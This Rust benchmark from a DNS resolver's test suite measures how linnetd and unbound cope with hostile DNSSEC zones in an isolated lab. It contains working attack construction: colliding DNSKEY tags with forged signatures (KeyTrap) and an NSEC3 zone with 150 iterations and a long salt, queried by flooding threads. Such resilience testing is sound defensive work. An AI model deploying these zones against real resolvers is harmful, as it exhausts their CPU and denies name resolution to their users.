//! What do hostile zones cost those who ask for other names? linnetd and unbound, validating through the same forwarder.
//!
//! Two zones of the lab become hostile: one has 150 keys of one tag and 150 signatures that fit none of them (KeyTrap,
//! CVE-2023-50387), one denies by NSEC3 with 150 iterations and a long salt (CVE-2023-50868). Clients ask ordinary questions
//! at a fixed rate, alone and beside somebody who asks for fresh names of those zones. Rounds are fixed beforehand, both
//! servers and both phases take turns, and the median of the rounds counts. Run it by `tests/bench/attack`; the path of
//! linnetd is in LINNETD.

#![expect(
    clippy::unwrap_used,
    clippy::print_stdout,
    reason = "a bench may fail at any line, looks at the clock and prints"
)]

use std::fmt::Write as _;
use std::fs;
use std::net::UdpSocket;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, AtomicU64, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use tests::lab::{Lab, REFEREE};
use tests::namespace::{isolated, shell};
use tests::office::{HOME, Office, links};

const KEYS: u16 = 150;
const ROUNDS: usize = 7;
const SECONDS: u64 = 10;
const CLIENTS: u64 = 16;
/// Between two questions of one client.
const PACE: Duration = Duration::from_millis(20);
const ATTACKERS: u64 = 4;
/// Between two questions of one attacker.
const ATTACK_PACE: Duration = Duration::from_millis(100);

static SERIAL: AtomicU32 = AtomicU32::new(0);

fn main() {
    isolated("attack", bench);
}

/// A name that nobody asked for before.
fn fresh(below: &str) -> String {
    format!("n{}.{below}", SERIAL.fetch_add(1, Ordering::Relaxed))
}

fn query(name: &str, id: u16) -> Vec<u8> {
    let mut wire = id.to_be_bytes().to_vec();
    wire.extend([1, 0, 0, 1, 0, 0, 0, 0, 0, 1]);
    for label in name.split('.') {
        wire.push(u8::try_from(label.len()).unwrap());
        wire.extend(label.as_bytes());
    }
    wire.extend([0, 0, 1, 0, 1]);
    wire.extend([0, 0, 41, 4, 208, 0, 0, 0x80, 0, 0, 0]);
    wire
}

/// Asks and waits for at most a second; returns how long it took.
fn ask(socket: &UdpSocket, name: &str) -> Option<Duration> {
    let begun = Instant::now();
    let id = u16::try_from(SERIAL.fetch_add(1, Ordering::Relaxed) & 0xffff).unwrap();
    socket.send(&query(name, id)).unwrap();
    let mut buffer = [0; 4096];
    while let Ok(length) = socket.recv(&mut buffer) {
        if length > 12 && buffer[..2] == id.to_be_bytes() {
            return Some(begun.elapsed());
        }
    }
    None
}

fn socket(server: &str) -> UdpSocket {
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    socket.connect((server, 53)).unwrap();
    socket
        .set_read_timeout(Some(Duration::from_secs(1)))
        .unwrap();
    socket
}

/// What one phase came to.
struct Phase {
    answered: u64,
    lost: u64,
    hostile: u64,
    p50: Duration,
    p99: Duration,
    cpu: Duration,
}

fn cpu(pid: u32) -> Duration {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let fields: Vec<&str> = stat
        .rsplit(')')
        .next()
        .unwrap()
        .split_whitespace()
        .collect();
    let ticks = |at: usize| fields[at].parse::<u64>().unwrap();
    Duration::from_millis((ticks(11) + ticks(12)) * 10)
}

fn phase(server: &'static str, pid: u32, names: fn(u64) -> String, attacked: bool) -> Phase {
    let begun = Instant::now();
    let end = begun + Duration::from_secs(SECONDS);
    let before = cpu(pid);
    let hostile = Arc::new(AtomicU64::new(0));
    let attackers: Vec<_> = (0..if attacked { ATTACKERS } else { 0 })
        .map(|number| {
            let hostile = Arc::clone(&hostile);
            thread::spawn(move || {
                let socket = socket(server);
                socket.set_nonblocking(true).unwrap();
                let deep = "x.".repeat(40) + "optout.test";
                while Instant::now() < end {
                    let name = fresh(if number % 2 == 0 {
                        "trap.rsa.test"
                    } else {
                        &deep
                    });
                    socket.send(&query(&name, 7)).unwrap();
                    hostile.fetch_add(1, Ordering::Relaxed);
                    thread::sleep(ATTACK_PACE);
                }
            })
        })
        .collect();
    let clients: Vec<_> = (0..CLIENTS)
        .map(|client| {
            thread::spawn(move || {
                let socket = socket(server);
                let mut took = Vec::new();
                let mut lost = 0;
                for turn in 0.. {
                    let due = begun + PACE * turn;
                    if due >= end {
                        break;
                    }
                    thread::sleep(due.saturating_duration_since(Instant::now()));
                    match ask(&socket, &names(u64::from(turn) + client)) {
                        Some(time) => took.push(time),
                        None => lost += 1,
                    }
                }
                (took, lost)
            })
        })
        .collect();
    let (mut took, mut lost) = (Vec::new(), 0);
    for client in clients {
        let (times, missing) = client.join().unwrap();
        took.extend(times);
        lost += missing;
    }
    for attacker in attackers {
        attacker.join().unwrap();
    }
    took.sort();
    let at = |percent: usize| took[took.len() * percent / 100];
    Phase {
        answered: took.len() as u64,
        lost,
        hostile: hostile.load(Ordering::Relaxed),
        p50: at(50),
        p99: at(99),
        cpu: cpu(pid) - before,
    }
}

/// Every other question is known, the rest are new, signed and unsigned.
fn mixed(turn: u64) -> String {
    match turn % 4 {
        0 => fresh("wild.nsec.test"),
        1 => fresh("wild.plain.test"),
        _ => "www.nsec.test".to_owned(),
    }
}

fn cold(_: u64) -> String {
    fresh("wild.nsec.test")
}

/// RFC 4034 appendix B.
fn tag(rdata: &[u8]) -> u16 {
    let words = rdata
        .chunks(2)
        .map(|pair| u32::from(pair[0]) << 8 | pair.get(1).map_or(0, |&octet| u32::from(octet)));
    let sum: u32 = words.sum();
    u16::try_from((sum + (sum >> 16)) & 0xffff).unwrap()
}

fn base64(octets: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for three in octets.chunks(3) {
        let octet = |at: usize| u32::from(three.get(at).copied().unwrap_or_default());
        let bits = octet(0) << 16 | octet(1) << 8 | octet(2);
        for at in 0..4 {
            let digit = bits >> (18 - 6 * at) & 63;
            text.push(match at > three.len() {
                true => '=',
                false => char::from(DIGITS[digit as usize]),
            });
        }
    }
    text
}

/// A key of RSASHA256 that nobody has the other half of, with a tag of choice.
fn colliding(number: u16, wanted: u16) -> Vec<u8> {
    let mut rdata = vec![1, 0, 3, 8, 3, 1, 0, 1];
    let octet = |at: u32| u8::try_from((at * 37 + u32::from(number) * 11) % 256).unwrap() | 1;
    rdata.extend((0..256).map(octet));
    rdata[8] |= 0x80;
    for fix in 0..=u16::MAX {
        rdata[10..12].copy_from_slice(&fix.to_be_bytes());
        if tag(&rdata) == wanted {
            break;
        }
    }
    rdata
}

fn make_hostile(zones: &Path) {
    let name = shell(&format!(
        "cd {} && ls Krsa.test.+008+*.key",
        zones.display()
    ));
    let key = name.trim().trim_end_matches(".key").to_owned();
    let key_tag: u16 = key.rsplit('+').next().unwrap().parse().unwrap();
    let mut text = fs::read_to_string(zones.join("rsa.test.raw")).unwrap();
    text += "*.trap A 192.0.2.66\n";
    for number in 0..KEYS {
        let public = base64(&colliding(number, key_tag)[4..]);
        writeln!(text, "@ DNSKEY 256 3 8 {public}").unwrap();
    }
    fs::write(zones.join("rsa.test.raw"), text).unwrap();
    shell(&format!(
        "cd {0} && cat rsa.test.raw {key}.key > rsa.test.in && \
         dnssec-signzone -q -P -z -x -O full -s now-3600 -e now+864000 -o rsa.test. -f rsa.test.zone rsa.test.in {key} >/dev/null && \
         key=$(ls Koptout.test.*.key | sed 's/.key$//') && \
         dnssec-signzone -q -P -z -x -O full -s now-3600 -e now+864000 -3 $(printf 'ab%.0s' $(seq 200)) -H 150 \
         -o optout.test. -f optout.test.zone optout.test.in $key >/dev/null",
        zones.display()
    ));
    let path = zones.join("rsa.test.zone");
    let signed = fs::read_to_string(&path).unwrap();
    let genuine = signed
        .lines()
        .find(|line| {
            line.starts_with("*.trap.rsa.test.") && line.contains("RRSIG") && line.contains("A 8 ")
        })
        .unwrap()
        .to_owned();
    let fields: Vec<&str> = genuine.split_whitespace().collect();
    let head = fields[..12].join(" ");
    let mut hostile: String = signed
        .lines()
        .filter(|line| *line != genuine)
        .fold(String::new(), |text, line| text + line + "\n");
    for number in 0..KEYS {
        let mut forged = vec![u8::try_from(number).unwrap_or_default(); 256];
        forged[0] = 0x11;
        writeln!(hostile, "{head} {}", base64(&forged)).unwrap();
    }
    fs::write(path, hostile).unwrap();
}

fn bench() {
    let linnetd = std::env::var("LINNETD").unwrap();
    let dir = links();
    let lab = Lab::raise(&dir);
    make_hostile(lab.anchor.parent().unwrap());
    for peer in [&lab.authority, &lab.upstream, &lab.referee] {
        peer.signal(libc::SIGHUP);
    }
    thread::sleep(Duration::from_secs(2));
    let office = Office::bare(dir);
    office.configure(
        "linnet.toml",
        &format!(
            "[resolver]\ndnssec = \"enforce\"\nrecursion = \"never\"\ntrust-anchors = \"{}\"\n",
            lab.anchor.display()
        ),
    );
    office.configure("profiles/home.toml", HOME);
    let now = shell("date +%s");
    let ours = office.linnetd(&linnetd, &["--clock", now.trim()]);
    let servers = [
        ("linnetd", "127.0.0.53", ours.pid()),
        ("unbound", REFEREE, lab.referee.pid()),
    ];
    for (_, server, _) in servers {
        let status = shell(&format!(
            "dig @{server} +time=5 +tries=1 a.trap.rsa.test; true"
        ));
        assert!(
            status.contains("SERVFAIL"),
            "the trap does not work: {status}"
        );
        ask(&socket(server), "www.nsec.test");
    }
    let mut ratios = [Vec::new(), Vec::new()];
    let mut prices = [Vec::new(), Vec::new()];
    for number in 0..ROUNDS {
        for ((what, server, pid), (ratios, prices)) in
            servers.into_iter().zip(ratios.iter_mut().zip(&mut prices))
        {
            let round = round(server, pid, number % 2 == 1);
            println!("{what:8} {round}");
            ratios.push(round.rise());
            prices.push(round.price());
        }
    }
    for ((what, ..), (ratios, prices)) in servers.iter().zip(ratios.iter_mut().zip(&mut prices)) {
        println!(
            "{what:8} median of {ROUNDS} rounds: p99 beside the attack {:.2}x, a hostile question costs {:.1} ordinary cold ones",
            median(ratios),
            median(prices)
        );
    }
}

fn median(values: &mut [f64]) -> f64 {
    values.sort_by(f64::total_cmp);
    values[values.len() / 2]
}

/// One server, once alone, once beside the attack, once with ordinary cold questions only.
struct Round {
    alone: Phase,
    beside: Phase,
    cold: Phase,
}

fn round(server: &'static str, pid: u32, attack_first: bool) -> Round {
    let early = attack_first.then(|| phase(server, pid, mixed, true));
    let alone = phase(server, pid, mixed, false);
    let beside = early.unwrap_or_else(|| phase(server, pid, mixed, true));
    Round {
        alone,
        beside,
        cold: phase(server, pid, cold, false),
    }
}

impl Round {
    fn rise(&self) -> f64 {
        self.beside.p99.as_secs_f64() / self.alone.p99.as_secs_f64()
    }

    /// In microseconds of CPU: what one hostile question adds, what one ordinary cold one takes.
    fn costs(&self) -> (f64, f64) {
        let micros = |cpu: Duration, count: u64| cpu.as_secs_f64() * 1e6 / count.max(1) as f64;
        let more = self.beside.cpu.saturating_sub(self.alone.cpu);
        (
            micros(more, self.beside.hostile),
            micros(self.cold.cpu, self.cold.answered),
        )
    }

    fn price(&self) -> f64 {
        let (hostile, ordinary) = self.costs();
        hostile / ordinary
    }
}

impl std::fmt::Display for Round {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let (hostile, ordinary) = self.costs();
        write!(
            f,
            "alone p50 {:?} p99 {:?}; attacked p50 {:?} p99 {:?} ({:.2}x), lost {} of {}; \
             a hostile question {hostile:.0} us, an ordinary cold one {ordinary:.0} us: {:.1} to one",
            self.alone.p50,
            self.alone.p99,
            self.beside.p50,
            self.beside.p99,
            self.rise(),
            self.beside.lost,
            self.beside.lost + self.beside.answered,
            self.price(),
        )
    }
}
